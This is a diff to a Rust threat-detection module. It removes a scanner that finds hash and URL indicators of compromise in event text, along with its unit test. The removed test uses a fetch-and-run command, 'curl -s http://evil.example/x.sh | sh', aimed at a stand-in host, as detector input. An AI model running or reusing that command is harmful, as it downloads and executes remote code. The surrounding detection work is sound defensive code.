@@ -17,7 +17,7 @@ use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
 use std::sync::{Arc, RwLock};
 use std::thread::JoinHandle;
 use std::time::{Duration, SystemTime};
-use watchpost_rules::ioc::{FileStats, IocError, IocId, IocKind, IocSet};
+use watchpost_rules::ioc::{FileStats, IocError, IocKind, IocSet};
 
 /// What a folder looked like: (name, size, modification time) per file, sorted.
 type Fingerprint = Vec<(String, u64, Option<SystemTime>)>;
@@ -201,73 +201,6 @@ impl IocFeed {
     }
 }
 
-/// Whether a field name says it holds file hashes: it mentions hash, md5, sha1 or sha256
-/// (ASCII case aside).
-pub fn names_a_hash(key: &str) -> bool {
-    let k = key.as_bytes();
-    k.len() >= 3
-        && k.windows(3).any(|w| {
-            w.eq_ignore_ascii_case(b"has")
-                || w.eq_ignore_ascii_case(b"md5")
-                || w.eq_ignore_ascii_case(b"sha")
-        })
-}
-
-/// The first hash or URL indicator in `text`: runs of exactly 32, 40 or 64 hex digits, and
-/// `scheme://...` tokens. A single pass of byte tests (and a SIMD search for `://`), far
-/// cheaper than tokenising the text: it runs on every event while the set holds hashes or URLs.
-pub fn find_hash_or_url(set: &IocSet, text: &str, hashes: bool, urls: bool) -> Option<IocId> {
-    let b = text.as_bytes();
-    if hashes {
-        // Looks at every 32nd byte: a hash needs 32 hex digits in a row, so a byte that is not
-        // hex rules out every run through it. Ordinary text is skipped 32 bytes at a time.
-        let n = b.len();
-        let mut i = 0;
-        while i + 32 <= n {
-            let p = i + 31;
-            if !b[p].is_ascii_hexdigit() {
-                i = p + 1;
-                continue;
-            }
-            // `i` follows a non-hex byte (or is 0), so the run through `p` starts at `s`.
-            let mut s = p;
-            while s > i && b[s - 1].is_ascii_hexdigit() {
-                s -= 1;
-            }
-            let mut e = p + 1;
-            while e < n && b[e].is_ascii_hexdigit() {
-                e += 1;
-            }
-            if matches!(e - s, 32 | 40 | 64)
-                && let Some(id) = set.match_hash(&text[s..e])
-            {
-                return Some(id);
-            }
-            i = e + 1;
-        }
-    }
-    if urls {
-        static SCHEME: std::sync::LazyLock<memchr::memmem::Finder<'static>> =
-            std::sync::LazyLock::new(|| memchr::memmem::Finder::new(b"://"));
-        for at in SCHEME.find_iter(b) {
-            let start = b[..at]
-                .iter()
-                .rposition(|c| !(c.is_ascii_alphanumeric() || matches!(c, b'+' | b'-' | b'.')))
-                .map_or(0, |p| p + 1);
-            let end = b[at..]
-                .iter()
-                .position(|c| c.is_ascii_whitespace() || matches!(c, b'"' | b'\'' | b'<' | b'>'))
-                .map_or(b.len(), |p| at + p);
-            if start < at
-                && let Some(id) = set.match_url(&text[start..end])
-            {
-                return Some(id);
-            }
-        }
-    }
-    None
-}
-
 fn fingerprint(dir: &Path) -> Fingerprint {
     let mut out: Fingerprint = std::fs::read_dir(dir)
         .map(|rd| {
@@ -315,47 +248,5 @@ mod tests {
         assert!(feed.reload_if_changed());
         assert!(feed.current().1.is_empty());
         assert!(feed.get(v1).is_none(), "only one previous set is kept");
-    }
-
-    #[test]
-    fn hashes_and_urls_are_found_in_text_without_tokenising() {
-        let mut set = IocSet::new();
-        let md5 = "44d88612fea8a8f36de82e1278abb02f";
-        let _ = set.add(md5, None, "t", None);
-        let _ = set.add("http://evil.example/x.sh", None, "t", None);
-        let sha1 = "da39a3ee5e6b4b0d3255bfef95601890afd80709";
-        let _ = set.add(sha1, None, "t", None);
-        let hit = |t: &str| find_hash_or_url(&set, t, true, true).is_some();
-        assert!(hit(&format!("Hashes=MD5={},SHA256=00", md5.to_uppercase())));
-        assert!(hit(&format!("file {md5}")));
-        assert!(
-            !hit(&format!("file {md5}0"),),
-            "33 hex digits are not an MD5"
-        );
-        assert!(hit("curl -s http://evil.example/x.sh | sh"));
-        assert!(hit("GET \"http://EVIL.example/x.sh\" 200"));
-        assert!(!hit("curl -s http://evil.example/y.sh"));
-        assert!(!hit("nothing here"));
-        for pad in 0..40 {
-            let line = format!("{}x {sha1} y", "z".repeat(pad));
-            assert!(hit(&line), "at offset {pad}");
-            assert!(
-                hit(&format!("{}{sha1}", ":".repeat(pad))),
-                "at the end after {pad}"
-            );
-        }
-        assert!(!hit(&format!("{sha1}a")), "41 hex digits");
-        for k in [
-            "Hashes",
-            "sha256",
-            "file.hash.md5",
-            "MD5",
-            "process.hash.sha1",
-        ] {
-            assert!(names_a_hash(k), "{k}");
-        }
-        for k in ["trace_id", "session", "ip", "", "message"] {
-            assert!(!names_a_hash(k), "{k}");
-        }
     }
 }
